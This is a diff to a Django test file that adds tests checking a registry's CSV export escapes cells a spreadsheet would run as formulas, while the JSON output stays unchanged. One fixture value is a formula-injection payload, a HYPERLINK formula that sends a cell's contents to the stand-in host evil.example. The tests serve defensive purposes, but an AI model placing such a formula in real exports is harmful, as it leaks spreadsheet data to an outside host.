@@ -7,6 +7,7 @@ import pytest
 from django.http import StreamingHttpResponse
 
 from api.serializers import CSV_COLUMNS
+from registry.csv_export import csv_lines, spreadsheet_safe
 from tests.api.conftest import bulk_affiliates
 from tests.factories import MembershipFactory
 
@@ -63,7 +64,10 @@ def tricky(regions):
     ],
 )
 def test_csv_of_a_filter_equals_its_json(api_client, tricky, params):
-    expected = json_rows(api_client, params)
+    # The same values, but a cell a spreadsheet would run as a formula ("=Formula Union") escaped.
+    expected = [
+        {key: spreadsheet_safe(value) for key, value in row.items()} for row in json_rows(api_client, params)
+    ]
 
     rows = csv_rows(api_client.get(URL, {**params, "format": "csv"}))
 
@@ -98,3 +102,60 @@ def test_partners_get_the_email_column(partner_client, api_client, tricky):
     assert partner == json_rows(partner_client, {"region": "europe"})
     assert all(row["email"] for row in partner)
     assert "email" not in anonymous[0]
+
+
+FORMULA_NAMES = [
+    '=HYPERLINK("https://evil.example/?x="&A1, "Click")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    "\tx",
+    "\rx",
+]
+
+
+@pytest.fixture
+def formula_names(regions):
+    for index, name in enumerate(FORMULA_NAMES):
+        MembershipFactory(
+            organization__name=name,
+            organization__slug=f"formula-{index}",
+            organization__city="=1+1",
+            organization__region=regions["europe-north"],
+            organization__country="SE",
+        )
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(api_client, formula_names):
+    rows = csv_rows(api_client.get(URL, {"format": "csv", "ordering": "name"}))
+
+    by_slug = {row["slug"]: row for row in rows}
+    assert {slug: row["name"] for slug, row in by_slug.items()} == {
+        f"formula-{index}": "'" + name for index, name in enumerate(FORMULA_NAMES)
+    }
+    assert {row["city"] for row in rows} == {"'=1+1"}
+    assert {row["country_code"] for row in rows} == {"SE"}  # other cells as they were
+
+
+def test_json_of_the_same_rows_is_unchanged(api_client, formula_names):
+    results = api_client.get(URL, {"page_size": 50}).json()["results"]
+
+    assert {item["slug"]: item["name"] for item in results} == {
+        f"formula-{index}": name for index, name in enumerate(FORMULA_NAMES)
+    }
+    assert {item["city"] for item in results} == {"=1+1"}
+
+
+def test_only_a_leading_formula_character_is_escaped_and_numbers_stay_numbers():
+    text = "".join(
+        csv_lines(
+            ["a", "b", "c", "d", "e"],
+            [["Union = students", "x-y", "", -2, None], ["|pipe", "%pct", " =spaced", 1.5, "\nnewline"]],
+        )
+    )
+
+    assert list(csv.reader(io.StringIO(text, newline=""))) == [
+        ["a", "b", "c", "d", "e"],
+        ["Union = students", "x-y", "", "-2", ""],
+        ["|pipe", "%pct", " =spaced", "1.5", "\nnewline"],
+    ]
